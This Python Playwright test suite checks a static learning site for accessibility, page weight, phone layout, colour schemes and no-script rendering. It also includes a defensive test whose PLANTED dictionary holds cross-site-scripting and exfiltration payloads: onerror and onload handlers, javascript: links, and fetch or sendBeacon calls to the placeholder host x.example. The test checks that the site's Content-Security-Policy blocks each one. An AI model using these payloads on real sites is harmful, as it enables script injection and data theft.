"""What holds for every page: in full for one of each kind, in short for the others."""

from __future__ import annotations

import gzip
import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, Response

from tests.browser.conftest import LAPTOP, PHONE, Visit
from tools.browser import until
from tools.served import Site

AXE = Path(__file__).parents[2] / "node_modules" / "axe-core" / "axe.min.js"
KIB = 1024
KINDS = {
    "home": "",
    "prose": "before-you-start/",
    "concept": "concepts/heads/",
    "notebook": "notebooks/attention-by-hand/",
    "claims": "does-it-hold/",
    "catalogue": "catalogue/",
    "resource": "resources/alammar-illustrated-transformer/",
    "missing page": "404.html",
}
CONCEPT = KINDS["concept"]
every_kind = pytest.mark.parametrize("path", KINDS.values(), ids=KINDS.keys())


def complaints(page: Page) -> list[str]:
    """What the page complains of from now on."""
    heard: list[str] = []
    page.on("pageerror", lambda error: heard.append(str(error)))
    page.on(
        "console",
        lambda said: (
            heard.append(said.text) if said.type in ("error", "warning") else None
        ),
    )
    return heard


def hold_still(page: Page) -> None:
    """Colours fade from one scheme to the other; nobody should look amid it.

    By a style sheet without a tag: the policy of the page allows no other.
    """
    page.evaluate(
        """() => {
          const sheet = new CSSStyleSheet();
          sheet.replaceSync("* { transition: none !important }");
          document.adoptedStyleSheets.push(sheet);
        }"""
    )


def keeps_out(page: Page) -> list[str]:
    """What axe-core finds that keeps somebody out."""
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE.read_text(encoding="utf-8"))
    found = page.evaluate("axe.run({resultTypes: ['violations']})")
    return [
        f"{violation['id']}: {violation['help']}: {node['html'][:120]}"
        for violation in found["violations"]
        if violation["impact"] in ("serious", "critical")
        for node in violation["nodes"]
    ]


def words(page: Page) -> int:
    """How many words of the page are not hidden, on the screen or below it."""
    seen = page.evaluate(
        """() => {
          const texts = document.createTreeWalker(document.querySelector("main"), 4);
          const seen = [];
          while (texts.nextNode()) {
            const { parentElement, data } = texts.currentNode;
            if (parentElement.checkVisibility()) seen.push(data);
          }
          return seen.join(" ");
        }"""
    )
    return len(seen.split())


def width(page: Page) -> int:
    return page.evaluate("document.documentElement.scrollWidth")


def furthest(page: Page) -> float:
    """Where the header ends on the right, with what is hidden in it."""
    return page.evaluate(
        "Math.max(...[...document.querySelectorAll('.md-header *')].map("
        "part => part.getBoundingClientRect().right))"
    )


@every_kind
def test_page_in_light_and_dark_on_a_laptop_and_a_phone(
    browser: Browser, site: Site, path: str
) -> None:
    """No complaint, no other host, for everybody, light, and whole without scripts."""
    context = browser.new_context(viewport=LAPTOP, color_scheme="light")
    page = context.new_page()
    asked: list[str] = []
    sizes: dict[str, int] = {}

    def weigh(response: Response) -> None:
        if response.ok:
            sizes[response.url] = len(gzip.compress(response.body()))

    heard = complaints(page)
    page.on("request", lambda request: asked.append(request.url))
    page.on("response", weigh)
    page.goto(site.url + path)
    page.wait_for_load_state("networkidle")
    page.remove_listener("response", weigh)  # the rest is no first visit
    assert any(url.endswith(".woff2") for url in sizes)
    assert sum(sizes.values()) <= 250 * KIB, json.dumps(sizes, indent=1)
    # It grows with every page, and few search.
    assert not any("search_index" in url for url in sizes)
    shown = words(page)
    assert keeps_out(page) == []

    hold_still(page)
    page.emulate_media(color_scheme="dark")
    page.set_viewport_size(PHONE)
    page.evaluate(
        "document.querySelectorAll('main details').forEach(d => d.open = true)"
    )
    # Material makes code that scrolls reachable by keyboard once it has been laid out.
    page.evaluate(
        "new Promise(laid => requestAnimationFrame(() => requestAnimationFrame(laid)))"
    )
    assert width(page) == PHONE["width"]
    assert keeps_out(page) == []
    assert heard == []
    assert [a for a in asked if not a.startswith((site.url, "data:"))] == []
    context.close()

    context = browser.new_context(viewport=LAPTOP, java_script_enabled=False)
    page = context.new_page()
    page.goto(site.url + path)
    # Scripts may add controls; they may not bring the content.
    assert words(page) > max(15, 0.8 * shown)
    page.set_viewport_size(PHONE)
    assert furthest(page) <= PHONE["width"]
    context.close()


def test_every_page_complains_of_nothing_and_fits_a_phone(
    site: Site, visit: Visit
) -> None:
    """Of the resources, which are made alike, those that show more, and some others."""
    files = sorted(site.folder.rglob("*.html"))
    assert len(files) > 200
    plain = [
        file
        for file in files
        if file.parent.parent.name == "resources" and "<figure" not in file.read_text()
    ]
    some = set(files) - set(plain) | set(plain[::20])
    paths = {
        file.relative_to(site.folder).as_posix().removesuffix("index.html")
        for file in some
    }
    page = visit(viewport=PHONE)
    heard = complaints(page)
    for path in sorted(paths - set(KINDS.values())):
        page.goto(site.url + path, wait_until="domcontentloaded")
        assert (width(page), heard) == (PHONE["width"], []), path


def test_every_page_is_light(site: Site) -> None:
    sizes = {
        page.relative_to(site.folder).as_posix(): len(gzip.compress(page.read_bytes()))
        for page in site.folder.rglob("*.html")
    }
    # The catalogue holds the summary of every resource.
    sizes["catalogue/index.html"] -= 15 * KIB
    assert {name: size for name, size in sizes.items() if size > 45 * KIB} == {}


# --- The policy of every page

# What somebody may plant, and the directive that keeps it from happening.
PLANTED = {
    "fetch('https://x.example/').catch(() => 0)": "connect-src",
    "navigator.sendBeacon('https://x.example/', 'a')": "connect-src",
    "new Image().src = 'https://x.example/'": "img-src",
    "new Worker('data:,1')": "worker-src",
    'put(\'<img src="none.png" onerror="window.ran = 1">\')': "script-src-attr",
    "put('<svg onload=\"window.ran = 1\"></svg>')": "script-src-attr",
    "put('<a href=\"javascript:window.ran = 1\">x</a>').firstChild.click()": (
        "script-src-elem"
    ),
    "run({ textContent: 'window.ran = 1' })": "script-src-elem",
    "run({ src: 'https://x.example/x.js' })": "script-src-elem",
    "put('<iframe src=\"https://x.example/\"></iframe>')": "frame-src",
    "put('<object data=\"https://x.example/\"></object>')": "object-src",
    "put('<style>p { color: red }</style>')": "style-src-elem",
    "put('<base href=\"https://x.example/\">')": "base-uri",
    "put('<form action=\"https://x.example/\"></form>').firstChild.submit()": (
        "form-action"
    ),
}


def test_policy_lets_nothing_planted_run_or_ask_another_host(
    visit: Visit, site: Site
) -> None:
    page = visit()
    heard = complaints(page)
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    page.evaluate(
        """() => {
          window.refused = [];
          addEventListener("securitypolicyviolation", (event) =>
            window.refused.push(event.effectiveDirective));
          window.put = (html) => {
            const place = document.createElement("p");
            document.body.append(place);
            place.innerHTML = html;
            return place;
          };
          window.run = (how) =>
            document.body.append(
              Object.assign(document.createElement("script"), how));
        }"""
    )
    for planted, directive in PLANTED.items():
        page.evaluate(f"() => {{ try {{ {planted} }} catch {{}} }}")
        until(page, f"window.refused.includes('{directive}')")
        page.evaluate("window.refused.length = 0")
    assert page.evaluate("window.ran") is None
    assert page.url == site.url
    # So the tests above would see one that is planted in a page.
    assert len(heard) >= len(PLANTED)
    assert {a.failure for a in asked if "x.example" in a.url} == {"csp"}


def test_policy_lets_every_part_of_the_site_work(visit: Visit) -> None:
    page = visit(CONCEPT, permissions=["clipboard-write"])
    heard = complaints(page)
    page.evaluate("window.stayed = true")
    page.locator('[data-md-component="palette"] label:visible').click()
    page.locator(".md-code__button").first.click()
    page.locator(".md-dialog--active").wait_for()
    page.locator('main .md-typeset p a[href$="attention/"]').first.focus()
    page.locator(".md-tooltip2 .md-typeset", has_text="Attention").wait_for()
    page.keyboard.press("/")
    page.keyboard.type("weight tying")  # a worker searches
    page.locator(".md-search-result__link").first.click()
    page.wait_for_url("**/weight-tying/**")
    page.locator('.site-links a[href$="catalogue/"]').click()
    page.locator("resource-catalogue form:not([hidden])").wait_for()
    page.locator("resource-catalogue input[type=search]").fill("illustrated")
    for path in ("notebooks/attention-by-hand/", "concepts/attention/"):
        page.locator(f'.md-nav a[href$="{path}"]').first.evaluate("a => a.click()")
        page.wait_for_url(f"**/{path}")
        page.locator("main article h1").first.wait_for()
    assert page.evaluate("window.stayed") is True
    assert heard == []


# --- Colours, and no scripts


def test_formulas_are_typeset_without_scripts(visit: Visit) -> None:
    page = visit(CONCEPT, java_script_enabled=False)
    formula = page.locator(".formula .katex").first
    assert formula.bounding_box()["height"] > 20
    assert "KaTeX" in formula.evaluate("e => getComputedStyle(e).fontFamily")
    assert page.locator(".katex-error").count() == 0
    # The numbers are drawn once, the words for screen readers are hidden.
    assert page.locator(".katex-mathml").first.bounding_box()["width"] <= 1


def test_dark_page_is_printed_dark_on_light(visit: Visit) -> None:
    page = visit(CONCEPT, color_scheme="dark")
    page.emulate_media(media="print")
    hold_still(page)
    for part in ("body", "article p", "article pre code", "article figcaption"):
        colour = page.locator(part).first.evaluate("e => getComputedStyle(e).color")
        assert max(map(int, re.findall(r"\d+", colour)[:3])) < 128, part
    assert not page.locator(".md-code__button").first.is_visible()


def test_bars_stay_where_colours_are_the_systems(visit: Visit) -> None:
    bar = visit(forced_colors="active").locator(".trace-bar i").first
    colour = bar.evaluate("e => getComputedStyle(e).backgroundColor")
    assert colour not in ("rgb(255, 255, 255)", "rgba(0, 0, 0, 0)")
    assert bar.evaluate("e => getComputedStyle(e).printColorAdjust") == "exact"


def test_scheme_follows_the_system_the_button_and_the_space_bar(visit: Visit) -> None:
    def paper(page: Page) -> str:
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    light = paper(visit(color_scheme="light"))
    page = visit(color_scheme="dark")
    dark = paper(page)
    assert dark != light
    page.locator('[data-md-component="palette"] label:visible').click()
    assert paper(page) == light
    page.reload()
    assert paper(page) == light
    page.locator("[data-md-component=palette] input").nth(1).focus()
    page.keyboard.press("Space")
    until(page, f"getComputedStyle(document.body).backgroundColor === '{dark}'")
    assert page.evaluate("scrollY") == 0
